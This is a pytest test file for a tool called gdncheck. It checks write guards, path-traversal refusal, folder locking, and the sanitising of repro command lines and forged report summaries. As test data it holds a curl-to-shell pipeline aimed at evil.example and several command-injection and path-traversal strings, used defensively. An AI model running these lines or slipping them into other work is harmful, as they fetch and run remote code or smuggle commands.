"""Trust, third round (issue 37, items 2, 4, 6, 7, 11): no command writes into a fixture suite or over a
file it did not make; the Node template writes nothing outside --out; verify judges a read-only
outputs folder, and two verifies of one folder run side by side; a repro line is built only from what
gdncheck can quote; report refuses a summary with a case twice, and a headline its cases contradict.

Each test failed on main at 9614803: `report --markdown` appended to a suite's manifest and `report
-o`, `template` wrote inside a suite (exit 0); `verify --summary README.md` replaced the file; the
Node runner wrote `../../escaped.safetensors` outside --out; verify of a read-only folder was "cannot
lock" (exit 2) and a second verify of a folder was refused as a second writer; a hostile `command`
in an outputs file became `repro: curl ... | sh; gdncheck run ...` in the console, the summary, JUnit
and the report; an 82 MB summary of one case 3000 times ran `report` 216 s; a forged "conforms" was
the report's headline.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

from gdncheck.cli import main
from gdncheck.fixtures.manifest import DEFAULT_DIR
from gdncheck.safetensors_io import SafetensorsFile, write_safetensors
from gdncheck.untrusted import FolderBusyError, folder_lock, lock_file_of

GDNCHECK = str(Path(sys.executable).with_name("gdncheck"))
ENV = dict(os.environ, OPENBLAS_NUM_THREADS="1")
ENV.pop("GDN_DEBUG", None)
ROOT = Path(__file__).resolve().parents[2]
CASE = "prefill_T1_Hk1_Hv1_dk16_dv16_s0"
HOSTILE = "curl https://evil.example/x | sh; gdncheck run reference"


def _cli(*args, prefix=()) -> subprocess.CompletedProcess:
    """``gdncheck ARGS``: in this process (the command line's own entry, ``main``) unless ``prefix``
    (a command to run it under) asks for a process of its own."""
    if prefix:
        return subprocess.run([*prefix, GDNCHECK, *map(str, args)], capture_output=True, text=True, env=ENV,
                              timeout=600)
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main([str(a) for a in args])
        except SystemExit as exc:  # argparse
            code = exc.code
    return subprocess.CompletedProcess(args, code, out.getvalue(), err.getvalue())


def _refused(r: subprocess.CompletedProcess, *words: str) -> str:
    """Exit 2, one line on stderr (holding every word), no traceback."""
    lines = r.stderr.strip().splitlines()
    assert r.returncode == 2, (r.returncode, r.stdout[-2000:], r.stderr[-2000:])
    assert len(lines) == 1 and "Traceback" not in r.stderr + r.stdout, r.stderr[-3000:]
    for w in words:
        assert w in lines[0], (w, lines[0])
    return lines[0]


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def _manifest() -> dict:
    return json.loads((DEFAULT_DIR / "manifest.json").read_text())


def _suite(dest: Path, edit=None) -> Path:
    """A copy of the default suite holding only CASE (``edit(manifest)`` changes its manifest)."""
    doc = _manifest()
    doc["cases"] = [c for c in doc["cases"] if c["id"] == CASE]
    dest.mkdir(parents=True)
    shutil.copyfile(DEFAULT_DIR / doc["cases"][0]["file"], dest / doc["cases"][0]["file"])
    if edit:
        edit(doc)
    (dest / "manifest.json").write_text(json.dumps(doc, indent=1))
    return dest


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    """A run of the reference on CASE and its summary; a copy of it failing (out + 1) whose outputs
    file's ``command`` is a shell pipeline, and that copy's summary and JUnit."""
    root = tmp_path_factory.mktemp("runs")
    good = root / "good"
    assert _cli("run", "reference", "--case", CASE, "--out", good, "--profile", "f32", "-q").returncode == 0
    r = _cli("verify", "--outputs", good, "--profile", "f32", "--case", CASE, "--summary", root / "good.json", "-q")
    assert r.returncode == 0, r.stderr
    bad = root / "bad"
    shutil.copytree(good, bad)
    path = bad / f"{CASE}.safetensors"
    f = SafetensorsFile(path)
    tensors = {k: np.array(f[k]) for k in f.keys()}
    meta = dict(f.metadata, command=HOSTILE)
    tensors["calls.0.out"] = tensors["calls.0.out"] + 1.0
    del f
    write_safetensors(path, tensors, meta)
    r = _cli("verify", "--outputs", bad, "--profile", "f32", "--case", CASE, "--summary", root / "bad.json",
             "--junit", root / "bad.xml", "--diagnose", "0", "--details", "all")
    assert r.returncode == 1, r.stderr
    return {"root": root, "good": good, "bad": bad, "good_summary": root / "good.json",
            "bad_summary": root / "bad.json", "junit": root / "bad.xml", "console": r.stdout + r.stderr}


# --- 1. no command writes into a fixture suite, or over a file it did not make -------------------


def _write_commands(suite: Path, runs: dict, tmp: Path) -> dict[str, list]:
    s = runs["good_summary"]
    verify = ["verify", "--outputs", runs["good"], "--profile", "f32", "--case", CASE]
    return {
        "report --markdown into the manifest": ["report", s, "--markdown", suite / "manifest.json", "-q"],
        "report --markdown a new file in the suite": ["report", s, "--markdown", suite / "ci.md", "-q"],
        "report -o inside the suite": ["report", s, "-o", suite / "rep", "-q"],
        "report -o around the suite in use": ["report", s, "-o", suite.parent, "--fixtures", suite, "-q"],
        "template inside the suite": ["template", "node", "--out", suite / "tpl", "-q"],
        "verify --summary over the manifest": [*verify, "--summary", suite / "manifest.json"],
        "verify --junit inside the suite": [*verify, "--summary", tmp / "s.json", "--junit", suite / "j.xml"],
        "verify --report inside the suite": [*verify, "--summary", tmp / "s2.json", "--report", suite / "r"],
        "run --out inside the suite": ["run", "reference", "--case", CASE, "--out", suite / "o", "--profile", "f32"],
        "fixtures export inside the suite": ["fixtures", "export", suite / "copy"],
        "fixtures build --out inside the suite": ["fixtures", "build", "--out", suite / "nested", "--case", CASE],
        "bench --json inside the suite": ["bench", "--quick", "--json", suite / "bench.json"],
        "gpu-bench --markdown inside the suite": ["gpu-bench", "--dry-run", "--markdown", suite / "bench.md"],
    }


def test_no_command_writes_into_a_fixture_suite(runs, tmp_path):
    suite = _suite(tmp_path / "suites" / "suite")
    cmds = _write_commands(suite, runs, tmp_path)
    before = _tree(suite)
    for name, args in cmds.items():
        r = _cli(*args)
        line = _refused(r)
        assert "fixture suite" in line or "contains the fixture folder" in line, (name, line)
        assert _tree(suite) == before, name  # not a byte of the suite changed, nothing added
        assert not any(p.name.endswith(".gdncheck.lock") for p in suite.parent.iterdir()), name


def test_the_guard_names_the_suite_and_lets_a_suite_be_rebuilt(tmp_path):
    from gdncheck.writes import WriteRefused, refuse_write_into_suite

    suite = _suite(tmp_path / "suite")
    with pytest.raises(WriteRefused, match="lies inside .* which is a fixture suite"):
        refuse_write_into_suite(suite / "a" / "b.json", "--x")
    with pytest.raises(WriteRefused, match="is a fixture suite"):
        refuse_write_into_suite(suite, "--x")
    link = tmp_path / "link"
    link.symlink_to(suite)
    with pytest.raises(WriteRefused, match="fixture suite"):  # through a link too
        refuse_write_into_suite(link / "x.md", "--x")
    refuse_write_into_suite(suite, "--out", builds_suite=True)  # fixtures build rebuilds a suite in place
    with pytest.raises(WriteRefused):
        refuse_write_into_suite(suite / "inner", "--out", builds_suite=True)  # never one inside another
    with pytest.raises(WriteRefused, match="contains the fixture folder"):
        refuse_write_into_suite(tmp_path, "--out", fixtures=suite)
    refuse_write_into_suite(tmp_path / "elsewhere" / "x.json", "--x")  # outside: fine


def test_verify_never_replaces_a_file_it_did_not_make(runs, tmp_path):
    mine = tmp_path / "README.md"
    mine.write_text("my notes\n")
    verify = ["verify", "--outputs", runs["good"], "--profile", "f32", "--case", CASE]
    _refused(_cli(*verify, "--summary", mine), "--summary", "not a verify summary gdncheck wrote")
    _refused(_cli(*verify, "--summary", tmp_path / "s.json", "--junit", mine), "--junit", "not a JUnit file")
    assert mine.read_text() == "my notes\n"
    link = tmp_path / "link.json"
    link.symlink_to(mine)
    _refused(_cli(*verify, "--summary", link), "symbolic link")
    assert mine.read_text() == "my notes\n"
    # an earlier summary and JUnit file of gdncheck's, and an empty file, are replaced
    earlier = tmp_path / "earlier.json"
    shutil.copyfile(runs["good_summary"], earlier)
    junit, empty = tmp_path / "earlier.xml", tmp_path / "empty.json"
    shutil.copyfile(runs["junit"], junit)
    empty.touch()
    for summary in (earlier, empty):
        r = _cli(*verify, "--summary", summary, "--junit", junit, "-q")
        assert r.returncode == 0, r.stderr
        assert json.loads(summary.read_text())["verdict"] == "conforms"
        assert 'failures="0"' in junit.read_text()


def test_run_and_gate_never_replace_a_file_they_did_not_make(runs, tmp_path):
    out = tmp_path / "o"
    out.mkdir()
    mine = out / f"{CASE}.safetensors"
    mine.write_text("my notes\n")
    _refused(_cli("run", "reference", "--case", CASE, "--out", out, "--profile", "f32"), mine.name,
             "not an outputs file", "never replaces a file it did not make")
    assert mine.read_text() == "my notes\n"
    notes = tmp_path / "notes.xml"
    notes.write_text("my notes\n")
    _refused(_cli("gate", "--impl", "reference", "--profiles", "f32", "--no-properties", "--case", CASE,
                  "--junit", notes, "--out", tmp_path / "gate"), "--junit", "not a JUnit file gdncheck wrote")
    assert notes.read_text() == "my notes\n"


def test_replacing_rules_of_the_guard(tmp_path):
    from gdncheck.writes import WriteRefused, refuse_replacing, refuse_write

    marks = (b'"schema": "gdncheck-verify-summary"',)
    refuse_replacing(tmp_path / "new.json", "--x", marks)  # nothing there
    (tmp_path / "ours.json").write_text('{\n "schema": "gdncheck-verify-summary"\n}')
    refuse_replacing(tmp_path / "ours.json", "--x", marks)
    (tmp_path / "theirs.json").write_text('{"schema": "something-else"}')
    with pytest.raises(WriteRefused, match="did not make"):
        refuse_replacing(tmp_path / "theirs.json", "--x", marks)
    with pytest.raises(WriteRefused, match="folder"):
        refuse_replacing(tmp_path, "--x", marks)
    with pytest.raises(WriteRefused, match="not a regular file"):
        refuse_replacing("/dev/null", "--x", marks)
    refuse_write(tmp_path / "theirs.json", "--markdown", append=True)  # appending replaces nothing


# --- 2. every name a runner writes stays inside --out --------------------------------------------


@pytest.mark.skipif(shutil.which("node") is None, reason="needs Node.js")
@pytest.mark.parametrize("where", ["case id", "snapshot file"])
def test_the_node_template_writes_nothing_outside_out(tmp_path, where):
    snap = next(c for c in _manifest()["cases"] if any(s["op"] == "save" for s in c["program"]))

    def edit(doc):
        if where == "case id":
            doc["cases"][0]["id"] = "../../escaped"
        else:
            doc["cases"] = [snap]
            next(s for s in snap["program"] if s["op"] == "save")["file"] = "../../escaped.safetensors"

    suite = _suite(tmp_path / "suite", edit)
    if where == "snapshot file":
        shutil.copyfile(DEFAULT_DIR / snap["file"], suite / snap["file"])
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    before = {p for p in tmp_path.rglob("*") if "suite" not in p.parts}
    r = subprocess.run(["node", str(ROOT / "examples/ports/node/run.js"), "--fixtures", str(suite), "--out", "out"],
                       cwd=work, capture_output=True, text=True, timeout=300)
    after = {p for p in tmp_path.rglob("*") if "suite" not in p.parts}
    outside = [p for p in after - before if work / "out" not in (p, *p.parents)]
    assert outside == [], outside
    assert not (tmp_path / "escaped.safetensors").exists() and not (work.parent / "escaped.safetensors").exists()
    if where == "case id":
        assert r.returncode == 2 and "leave --out" in r.stdout, (r.returncode, r.stdout, r.stderr)
    else:  # the case raised where it would have left --out: its outputs file says so
        meta = SafetensorsFile(work / "out" / f"{snap['id']}.safetensors").metadata
        assert "leaves --out" in meta.get("error_message", ""), meta


@pytest.mark.skipif(shutil.which("node") is None, reason="needs Node.js")
def test_the_doppler_runner_writes_nothing_outside_out(tmp_path):
    """The doppler engine's runner writes its outputs through the template's one path helper too."""
    work = tmp_path / "a"
    (work / "out").mkdir(parents=True)
    outputs = (ROOT / "conformance/engines/doppler/outputs.js").as_uri()
    script = (f"import {{ writeCaseOutputs }} from {json.dumps(outputs)};\n"
              "for (const id of ['../../escaped', '/tmp/escaped', 'ok_case']) {\n"
              "  try { writeCaseOutputs('out', { id, sha256: 'a' }, {}); console.log('wrote ' + id); }\n"
              "  catch (e) { console.log('refused ' + id + ': ' + e.message); } }\n")
    r = subprocess.run(["node", "--input-type=module", "-e", script], cwd=work, capture_output=True, text=True,
                       timeout=120)
    assert r.returncode == 0, r.stderr
    assert "refused ../../escaped: " in r.stdout and "refused /tmp/escaped: " in r.stdout, r.stdout
    assert "wrote ok_case" in r.stdout
    assert sorted(p.name for p in tmp_path.rglob("*") if p.is_file()) == ["ok_case.safetensors"]


# --- 3. verify of a read-only outputs folder; two verifies side by side ---------------------------


def _read_only_prefix() -> tuple:
    """A command prefix under which the outputs folder's mode is obeyed (root ignores it: its
    CAP_DAC_OVERRIDE is dropped)."""
    if os.geteuid() != 0:
        return ()
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("running as root without setpriv: a read-only folder cannot be made")
    caps = "-dac_override,-dac_read_search"
    return (setpriv, f"--bounding-set={caps}", f"--inh-caps={caps}")


def test_verify_judges_a_read_only_outputs_folder(runs, tmp_path):
    ro = tmp_path / "ro"
    shutil.copytree(runs["good"], ro)
    for p in ro.iterdir():
        if p.name.startswith("verify-summary"):
            p.unlink()
    ro.chmod(0o555)
    prefix = _read_only_prefix()
    try:
        probe = subprocess.run([*prefix, "touch", str(ro / "x")], capture_output=True)
        assert probe.returncode != 0, "the folder is writable: the test would prove nothing"
        verify = ["verify", "--outputs", ro, "--profile", "f32", "--case", CASE, "-q"]
        r = _cli(*verify, "--summary", tmp_path / "s.json", prefix=prefix)
        assert r.returncode == 0, r.stderr
        assert json.loads((tmp_path / "s.json").read_text())["verdict"] == "conforms"
        r = _cli(*verify, "--summary", "-", prefix=prefix)
        assert r.returncode == 0 and json.loads(r.stdout)["verdict"] == "conforms", r.stderr
        # the default summary would go into the read-only folder: refused before judging, saying what to do
        _refused(_cli(*verify, prefix=prefix), "not writable", "--summary elsewhere")
        assert sorted(p.name for p in ro.iterdir()) == [f"{CASE}.safetensors"]
    finally:
        ro.chmod(0o755)


def test_two_verifies_of_one_folder_run_side_by_side_and_a_writer_is_excluded(runs, tmp_path):
    out = tmp_path / "o"
    shutil.copytree(runs["good"], out)
    verify = ["verify", "--outputs", out, "--profile", "f32", "--case", CASE, "--summary", "-", "-q"]
    with folder_lock(out, "--outputs", shared=True):  # another verify, judging the folder now
        r = _cli(*verify)
        assert r.returncode == 0 and json.loads(r.stdout)["verdict"] == "conforms", r.stderr
        r = _cli("run", "reference", "--case", CASE, "--out", out, "--profile", "f32")  # a writer waits its turn
        _refused(r, "one writer per folder")
    assert not lock_file_of(out).exists()  # the last reader out removed the lock file
    with folder_lock(out, "--out", command="gdncheck run reference (writing)"):  # a run writing the folder
        _refused(_cli(*verify), "gdncheck run reference (writing)")


def test_shared_locks_coexist_and_exclude_a_writer(tmp_path):
    a = folder_lock(tmp_path, "--outputs", shared=True)
    b = folder_lock(tmp_path, "--outputs", shared=True)
    with pytest.raises(FolderBusyError, match="a reader"):
        folder_lock(tmp_path, "--out")
    a.release()
    assert lock_file_of(tmp_path).exists()  # b still holds it
    b.release()
    assert not lock_file_of(tmp_path).exists()
    with folder_lock(tmp_path, "--out"):
        with pytest.raises(FolderBusyError):
            folder_lock(tmp_path, "--outputs", shared=True)


# --- 4. repro lines are built only from what gdncheck can quote -----------------------------------


def test_a_hostile_command_never_becomes_a_repro_prefix(runs, tmp_path):
    console = runs["console"]
    repro = [line.strip() for line in console.splitlines() if line.strip().startswith("repro: ")]
    assert repro and all(line.startswith("repro: gdncheck verify ") for line in repro), repro
    # the command appears once, quoted on a note line, as data
    assert [line for line in console.splitlines() if "curl" in line] == [
        f"note: the outputs say they were made by {HOSTILE!r} (their command, shown as data: not a gdncheck run "
        f"command, so repro lines do not repeat it; rerun your port, then the repro)"]
    doc = json.loads(runs["bad_summary"].read_text())
    assert doc["cases"][0]["repro"].startswith("gdncheck verify --fixtures ")
    assert "curl" not in doc["cases"][0]["repro"]
    assert doc["implementation"]["command"] == HOSTILE  # kept as what the outputs said: data
    assert "curl" not in runs["junit"].read_text()
    r = _cli("report", runs["bad_summary"], "-o", tmp_path / "rep", "--markdown", tmp_path / "ci.md")
    assert r.returncode == 0, r.stderr
    for page in (tmp_path / "rep" / "cases").glob("*.html"):
        assert "curl" not in page.read_text()
    assert "curl" not in (tmp_path / "ci.md").read_text()
    # a summary edited to carry the pipeline as its repro: withheld from the report, never shown to paste
    doc["cases"][0]["repro"] = f"{HOSTILE} --case {CASE} && gdncheck verify --outputs o --profile f32"
    forged = tmp_path / "forged.json"
    forged.write_text(json.dumps(doc))
    r = _cli("report", forged, "-o", tmp_path / "rep2", "--markdown", tmp_path / "ci2.md")
    assert r.returncode == 0, r.stderr
    assert not any("curl" in p.read_text() for p in (tmp_path / "rep2" / "cases").glob("*.html"))
    assert "curl" not in (tmp_path / "ci2.md").read_text()


def test_repro_words_are_those_of_gdncheck_run_and_verify():
    from gdncheck.conformance.judge.messages import checked_repro, repro, run_words

    legit = "gdncheck run reference --fixtures '/a b' --out o --profile f32 --option placement=hf"
    assert run_words(legit) == ["gdncheck", "run", "reference", "--fixtures", "/a b", "--out", "o", "--profile",
                                "f32", "--option", "placement=hf"]
    line = repro("fx", "o d", "f32", "c1", run_command=legit)
    # issue 43: the run's suite, folder and profile are verify's own words, never the outputs' command's
    assert line == ("gdncheck run reference --fixtures fx --out 'o d' --profile f32 --option placement=hf --case c1 "
                    "&& gdncheck verify --fixtures fx --outputs 'o d' --profile f32 --case c1")
    assert checked_repro(line) == line
    for hostile in (HOSTILE, "gdncheck run reference; curl x", "gdncheck run reference --out $(curl x)",
                    "gdncheck run reference --out o\ncurl x", "node run.js --out o", "gdncheck run reference --evil",
                    "gdncheck run 'reference; x'", "gdncheck run reference > /etc/passwd"):
        assert run_words(hostile) is None, hostile
        assert repro("fx", "o", "f32", "c1", run_command=hostile) == \
            "gdncheck verify --fixtures fx --outputs o --profile f32 --case c1"
    assert run_words("gdncheck run reference --out 'x; y'") is not None  # quoted: a word, quoted again
    assert checked_repro("gdncheck verify --outputs o; curl x") is None
    assert checked_repro("gdncheck verify --outputs o && curl x") is None
    assert checked_repro("a && b && gdncheck verify") is None


# --- 5. report: a case twice, a size limit, a headline its cases contradict ------------------------


def test_report_refuses_a_summary_naming_a_case_twice_before_its_schema_check(runs, tmp_path, monkeypatch):
    from gdncheck.reports import model

    doc = json.loads(runs["bad_summary"].read_text())
    doc["cases"] = doc["cases"] * 200
    big = tmp_path / "big.json"
    big.write_text(json.dumps(doc))
    _refused(_cli("report", big, "-o", tmp_path / "rep"), "expected each case once", CASE, "200 times")
    assert not (tmp_path / "rep").exists()

    def schema_checked(doc):  # the slow part (216 s for 3000 copies on main): never reached
        raise AssertionError("the schema was checked before the case ids")

    monkeypatch.setattr(model, "validate_summary", schema_checked)
    with pytest.raises(model.ReportInputError, match="200 times"):
        model.load_summary(big)


def test_report_refuses_a_summary_over_its_size_limit_unread(runs, tmp_path, monkeypatch):
    from gdncheck.reports import model

    assert model.MAX_SUMMARY_BYTES <= 64 << 20  # the limit itself: 64 MB (1 GB on main: minutes and gigabytes)
    monkeypatch.setattr(model, "MAX_SUMMARY_BYTES", 1000)
    with pytest.raises(model.ReportInputError, match="expected at most 1000 bytes"):
        model.load_summary(runs["bad_summary"])


@pytest.mark.parametrize("forge", ["verdict conforms", "totals", "case pass"])
def test_report_refuses_a_headline_its_cases_contradict(runs, tmp_path, forge):
    doc = json.loads(runs["bad_summary"].read_text())
    if forge == "verdict conforms":
        doc.update(verdict="conforms", exit_code=0)
        words = ("'conforms' (exit 0)", "at best 'does not conform'", "1 case(s) fail")
    elif forge == "totals":
        doc["totals"]["failed"] = 0
        words = ("totals say failed 0", "cases count 1")
    else:
        doc["cases"][0]["status"] = "pass"
        words = ("is 'pass' but holds a failing record",)
    forged = tmp_path / "forged.json"
    forged.write_text(json.dumps(doc))
    _refused(_cli("report", forged), *words)
    _refused(_cli("report", forged, "-o", tmp_path / "rep", "--markdown", tmp_path / "ci.md"), *words)
    assert not (tmp_path / "rep").exists() and not (tmp_path / "ci.md").exists()


def test_report_keeps_the_headline_of_a_true_summary(runs):
    for summary, head in ((runs["good_summary"], "gdncheck: CONFORMS"), (runs["bad_summary"],
                                                                         "gdncheck: DOES NOT CONFORM")):
        r = _cli("report", summary)
        assert r.returncode == 0 and r.stdout.startswith(head), (r.stdout, r.stderr)
